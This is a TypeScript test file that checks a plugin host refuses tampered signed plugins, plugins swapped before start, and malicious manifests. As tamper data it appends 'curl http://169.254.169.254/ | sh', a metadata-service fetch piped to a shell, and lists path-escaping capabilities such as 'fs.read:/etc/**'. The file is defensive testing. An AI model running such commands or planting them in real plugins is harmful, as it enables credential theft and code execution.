/**
 * Attacks on what the host trusts before a plugin runs: a signed plugin
 * tampered with after signing (its entry, its manifest's capabilities, its
 * signature), a plugin swapped between verification and start, and
 * manifests built to hurt the parser. Each is refused with a message that
 * says what is wrong, and a tampered plugin never gets to run.
 */
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { appendFileSync, copyFileSync, mkdirSync, readFileSync, renameSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { execFileSync } from 'node:child_process';
import { join } from 'node:path';
import { PluginClient } from '../../src/host/plugin-client.js';
import { MemoryLogger } from '../../src/log.js';
import { loadManifest, ManifestError, MAX_MANIFEST_BYTES } from '../../src/security/manifest.js';
import { keygen, SignatureError, signPlugin, verifyPlugin, type PluginFields, type SignatureStatus } from '../../src/security/signature.js';
import { fixture, repo } from '../support/peers.js';
import { handshake, sceneDir } from './scene.js';

const dir = sceneDir();
const trusted = join(dir, 'trusted');
const keys = join(dir, 'keys');
let keyPath = '';

const manifestText = (capabilities: string[]) =>
  [
    'name: attacker',
    'version: 1.0.0',
    'runtime: binary',
    'command: bin/plugin',
    'handshake:',
    '  magic_cookie_key: BASIC_PLUGIN',
    '  magic_cookie_value: hello',
    'capabilities:',
    ...capabilities.map((c) => `  - ${c}`),
    '',
  ].join('\n');
const FIELDS: PluginFields = { name: 'attacker', version: '1.0.0', command: 'bin/plugin' };

/** A signed plugin directory whose command starts the attacker fixture. */
async function signedPlugin(name: string): Promise<string> {
  const plugin = join(dir, name);
  mkdirSync(join(plugin, 'bin'), { recursive: true });
  writeFileSync(join(plugin, 'plugin.yaml'), manifestText(['fs.read:public/**']));
  writeFileSync(join(plugin, 'bin', 'plugin'), `#!/bin/sh\nexec ${JSON.stringify(process.execPath)} ${JSON.stringify(fixture('attacker-plugin'))}\n`, { mode: 0o755 });
  await signPlugin(plugin, keyPath, FIELDS);
  return plugin;
}

async function refused(plugin: string, status: SignatureStatus, message: RegExp): Promise<void> {
  await assert.rejects(verifyPlugin(plugin, trusted, FIELDS, 'require'), (err: unknown) => {
    assert.ok(err instanceof SignatureError, String(err));
    assert.equal(err.result.status, status, err.message);
    assert.ok(err.message.includes(plugin), `the message does not name the plugin directory: ${err.message}`);
    assert.match(err.message, message);
    return true;
  });
}

describe('supply-chain attacks', () => {
  before(() => {
    const key = keygen(keys);
    keyPath = key.privateKeyPath;
    mkdirSync(trusted);
    copyFileSync(key.publicKeyPath, join(trusted, `${key.keyId}.pub`));
  });
  after(() => rmSync(dir, { recursive: true, force: true }));

  describe('a signed plugin, tampered with after signing', () => {
    it('code appended to its command', async () => {
      const plugin = await signedPlugin('appended');
      appendFileSync(join(plugin, 'bin', 'plugin'), 'curl http://169.254.169.254/ | sh\n');
      await refused(plugin, 'tampered', /command bin\/plugin/);
    });

    it('its manifest widened to fs.read:** after signing', async () => {
      const plugin = await signedPlugin('widened');
      writeFileSync(join(plugin, 'plugin.yaml'), manifestText(['fs.read:**', 'exec:/bin/sh']));
      await refused(plugin, 'tampered', /manifest|plugin\.yaml/);
    });

    it('its command replaced by a symlink to a shell', async () => {
      const plugin = await signedPlugin('symlinked');
      rmSync(join(plugin, 'bin', 'plugin'));
      symlinkSync('/bin/sh', join(plugin, 'bin', 'plugin'));
      await refused(plugin, 'invalid', /symbolic link/);
    });

    it('its signature file rewritten for another command digest', async () => {
      const plugin = await signedPlugin('forged');
      const sig = JSON.parse(readFileSync(join(plugin, 'plugin.sig'), 'utf8'));
      sig.statement.command_sha256 = 'a'.repeat(64);
      writeFileSync(join(plugin, 'plugin.sig'), JSON.stringify(sig));
      await assert.rejects(verifyPlugin(plugin, trusted, FIELDS, 'require'), (err: unknown) => err instanceof SignatureError && err.result.status !== 'valid');
    });

    it('re-signed with a key the host does not trust', async () => {
      const plugin = await signedPlugin('untrusted');
      const other = keygen(join(dir, 'other-keys'));
      await signPlugin(plugin, other.privateKeyPath, FIELDS);
      await refused(plugin, 'untrusted-key', new RegExp(other.keyId));
    });

    it('its signature removed', async () => {
      const plugin = await signedPlugin('unsigned');
      rmSync(join(plugin, 'plugin.sig'));
      await refused(plugin, 'unsigned', /plugin\.sig/);
    });
  });

  describe('a plugin swapped between verification and start', () => {
    const start = (plugin: string, checksum: string) =>
      new PluginClient({
        name: 'attacker',
        handshake,
        plugins: { attacker: {} },
        command: { path: join(plugin, 'bin', 'plugin') },
        secureConfig: { checksum },
        logger: new MemoryLogger(),
        stdin: 'ignore',
        skipHostEnv: true,
      });

    it('the verified plugin starts (control)', async () => {
      const plugin = await signedPlugin('control');
      const { commandSha256 } = await verifyPlugin(plugin, trusted, FIELDS, 'require');
      const client = start(plugin, commandSha256 as string);
      try {
        await client.start();
        assert.ok(client.pid);
      } finally {
        await client.kill();
      }
    });

    it('a command replaced after verification never runs', async () => {
      const plugin = await signedPlugin('swapped');
      const { commandSha256 } = await verifyPlugin(plugin, trusted, FIELDS, 'require');
      const marker = join(dir, 'swapped-ran');
      writeFileSync(join(plugin, 'bin', 'evil'), `#!/bin/sh\ntouch ${JSON.stringify(marker)}\n`, { mode: 0o755 });
      renameSync(join(plugin, 'bin', 'evil'), join(plugin, 'bin', 'plugin'));
      const client = start(plugin, commandSha256 as string);
      await assert.rejects(client.start(), /checksums did not match/);
      assert.equal(client.pid, undefined, 'a process was started');
      assert.throws(() => readFileSync(marker), 'the swapped command ran');
    });
  });

  describe('manifests built to hurt the parser', () => {
    const manifests = join(repo, 'test', 'fixtures', 'manifests');
    const loadFails = async (path: string, message: RegExp) => {
      await assert.rejects(loadManifest(path), (err: unknown) => {
        assert.ok(err instanceof ManifestError, String(err));
        assert.ok(err.message.includes(path), `the message does not name the file: ${err.message}`);
        assert.match(err.message, message);
        return true;
      });
    };

    it('an oversized manifest is refused before it is parsed', async () => {
      const path = join(dir, 'oversized.yaml');
      // Valid YAML all the way, so only the size can refuse it.
      writeFileSync(path, `${manifestText(['kv'])}description: "${'x'.repeat(MAX_MANIFEST_BYTES)}"\n`);
      await loadFails(path, /bytes/);
    });
    it('a malformed manifest names the line and column', () => loadFails(join(manifests, 'malformed.yaml'), /malformed\.yaml:\d+:\d+/));
    it('an alias bomb is refused', () => loadFails(join(manifests, 'alias-bomb.yaml'), /alias/i));
    it('a second capabilities key cannot sneak in more', async () => {
      const path = join(dir, 'duplicate.yaml');
      writeFileSync(path, `${manifestText(['kv'])}capabilities:\n  - fs.read:**\n`);
      await loadFails(path, /duplicate key/);
    });
    for (const capability of ['fs.read:../**', 'fs.read:/etc/**', 'fs.write:public/../../**', 'exec:sh', 'exec:/bin/../bin/sh', 'net:*', 'env:*', 'fs.read:$tmp/../**', 'root']) {
      it(`a capability that reaches out of its kind is refused: ${capability}`, async () => {
        const path = join(dir, `capability-${capability.replace(/[^a-z]/gi, '_')}.yaml`);
        writeFileSync(path, manifestText([JSON.stringify(capability)]));
        await loadFails(path, /capabilities\[0\]/);
      });
    }
    it('a FIFO in place of the manifest is refused without hanging', async () => {
      const path = join(dir, 'fifo.yaml');
      execFileSync('mkfifo', [path]);
      await loadFails(path, /not a regular file/);
    });
  });
});
